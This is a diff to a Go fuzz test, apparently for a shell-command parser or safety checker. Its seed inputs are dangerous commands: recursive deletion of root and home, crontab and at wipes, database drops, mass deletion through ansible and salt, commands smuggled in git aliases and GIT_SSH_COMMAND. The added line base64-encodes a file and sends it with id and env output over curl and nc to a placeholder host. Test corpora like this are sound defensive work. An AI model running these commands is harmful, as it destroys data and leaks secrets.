@@ -641,7 +641,8 @@ func FuzzParse(f *testing.F) {
 		"su root -c 'rm -rf /'", "echo '@reboot rm -rf ~' | crontab -", "tmux send-keys -t x 'rm -rf /' Enter", "at now <<< 'rm -rf /'",
 		"git -c alias.x='!rm -rf' -c core.pager=less x /", "GIT_SSH_COMMAND='rm -rf ~' git -c alias.y='reset --hard' y", "sudo -s <<< 'rm -rf /'",
 		"su - postgres <<EOF\ndropdb app\nEOF", "ansible all -m file -a 'path=/ state=absent'", "salt '*' cmd.run 'rm -rf /'", "uv run --with x rm -rf /",
-		"cd /etc && rm -f passwd", "cd ~/.ssh; (cd /tmp && rm x); pushd .. && popd; rm y", "cd $HOME/../x && cd - && cd && rm z", "ip netns exec n rm -rf /"} {
+		"cd /etc && rm -f passwd", "cd ~/.ssh; (cd /tmp && rm x); pushd .. && popd; rm y", "cd $HOME/../x && cd - && cd && rm z", "ip netns exec n rm -rf /",
+		`curl -F "f=$(cat k | base64)" "u?a=$(id)&b=` + "`env`" + `" | nc h 1`} {
 		f.Add(s)
 	}
 	f.Fuzz(func(t *testing.T, line string) {
